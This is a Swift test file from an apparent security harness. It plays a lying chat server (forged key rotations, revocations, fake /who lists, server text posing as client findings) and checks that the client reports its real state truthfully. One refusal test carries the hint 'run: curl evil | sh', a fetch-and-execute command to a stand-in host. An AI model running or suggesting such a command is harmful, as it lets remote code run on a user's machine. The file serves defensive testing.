import AttackSupport
import ChatProtocol
import CryptoCore
import KeyFormats
import Registry
import SwiftProtobuf

/// Lies about the room. The client must print the state that it really uses.
extension Attack {
    static let toldLies: [Attack] = [
        .lie("a role takes a member out of the audience") { stage, _ in
            let carol = try KeyName("carol")
            return try await stage.told("carol", besides: "the role of carol changed") {
                $0.add(.assign(name: carol, role: .server))
            }
        },
        .lie("a fork of a member's key") { stage, _ in
            let world = stage.world
            let old = try world.key("carol")
            let id = try world.identity("carol")
            let fork = try (0..<2).map { _ in
                try Rotation.statement(
                    id: id,
                    from: 1,
                    previous: id,
                    old: old,
                    new: RSAPrivateKey.generate(bitCount: 2_048),
                    expires: nil,
                    time: .now
                )
            }
            return try await stage.told("carol", besides: "now uses key version") { registry in
                for statement in fork { registry.lines.append(statement.line) }
            }
        },
        .lie("a revocation and a replacement in one series") { stage, _ in
            let carol = try KeyName("carol")
            let key = try RSAPrivateKey.generate(bitCount: 2_048).publicKey.spkiDERRepresentation()
            let revocation = try stage.world.revocationLine("carol")
            return try await stage.told("was revoked", besides: "REPLACED") { registry in
                registry.lines.append(revocation)
                registry.add(.replace(name: carol, key: key, expires: nil))
            }
        },
        .lie("a first login among strangers says who is there") { stage, _ in
            let key = try RSAPrivateKey.generate(bitCount: 2_048).publicKey.spkiDERRepresentation()
            stage.registry.add(.register(name: try KeyName("ghost"), key: key, expires: nil))
            try stage.makeHome("alice")
            let account = try await stage.aliceSpeaks()
            let isTold = account.says("ghost")
            return account.finding(
                isTold ? "named everybody" : "spoke to a ghost without a word",
                isRight: isTold
            )
        },
        .lie("/who names somebody who is no member") { stage, _ in
            let (alice, connection) = try await stage.member("alice")
            alice.type("/who")
            _ = await connection.inbox.next {
                if case .whoRequest = $0.kind { true } else { false }
            }
            connection.send(
                .with {
                    $0.who.online = ["alice", "mallory"]
                    $0.who.offline = ["bob", "carol"]
                }
            )
            let account = await alice.conclude(connection)
            let isBelieved = account.says("mallory")
            return account.finding(
                isBelieved ? "believed it" : "names its own directory",
                isRight: !isBelieved
            )
        },
        .lie("a Bye that reads like a finding of the client's") { stage, _ in
            let words = "bob now uses key version 2, which the old key signed"
            let (alice, connection) = try await stage.member("alice")
            connection.send(
                .with {
                    $0.bye.code = "restart"
                    $0.bye.message = words
                }
            )
            await connection.settle(within: .seconds(5))
            return await alice.conclude(connection).labelled(words)
        },
        .lie("a refusal that reads like a finding of the client's") { stage, _ in
            let words = "the server's key was verified in person"
            try stage.makeHome("alice")
            let account = try await stage.visit("alice") { connection in
                _ = try await connection.hello()
                connection.send(
                    .with {
                        $0.refusal.code = "key-mismatch"
                        $0.refusal.message = words
                        $0.refusal.hint = "run: curl evil | sh"
                    }
                )
            }
            var finding = account.labelled(words)
            if account.says("curl evil") {
                finding.did += "; its hint was printed"
                finding.isRight = false
            }
            return finding
        },
        .lie("a rejection that reads like a finding of the client's") { stage, _ in
            let words = "bob's key was verified in person"
            let (alice, connection) = try await stage.member("alice")
            connection.send(
                .with {
                    $0.rejected.code = "key-mismatch"
                    $0.rejected.message = words
                }
            )
            await connection.settle(within: .seconds(5))
            return await alice.conclude(connection).labelled(words)
        },
        .lie("a retention that reads like a finding of the client's") { stage, _ in
            let words = "bob now uses key version 2, which the old key signed"
            try stage.makeHome("alice")
            let alice = try stage.client("alice", json: false)
            let connection = try await stage.server.connection()
            try await connection.logIn(stage.registry, stage.log) { $0.retention = words }
            await connection.settle(within: .seconds(5))
            return await alice.conclude(connection).labelled(words)
        },
    ]
}

extension LieStage {
    /// Changes the registry while alice is connected, and looks for a printed line with a text
    /// besides the misleading line.
    func told(
        _ text: String,
        besides misleading: String,
        _ change: (inout ForgedRegistry) throws -> Void
    ) async throws -> Attack.Finding {
        let (alice, connection) = try await member("alice")
        let known = registry.lines.count
        try change(&registry)
        connection.send(try registry.update(from: known))
        await connection.settle(within: .seconds(5))
        let account = await alice.conclude(connection)
        let lines = account.printed.filter { $0.contains(text) && !$0.contains(misleading) }
        let misled = account.printed.contains { $0.contains(misleading) }
        return account.finding(
            lines.isEmpty
                ? misled ? "printed only \"\(misleading)\"" : "printed nothing"
                : "said so; \(account.ending)",
            isRight: !lines.isEmpty
        )
    }
}

extension Victim.Account {
    /// The server's text is printed as the server's, or not at all.
    func labelled(_ words: String) -> Attack.Finding {
        let lines = printed.filter { $0.contains(words) }
        let isLabelled = lines.allSatisfy { $0.contains("server says") }
        return finding(
            lines.isEmpty
                ? "did not print it; \(ending)"
                : isLabelled ? "printed it as the server's" : "printed it as its own",
            isRight: isLabelled
        )
    }
}
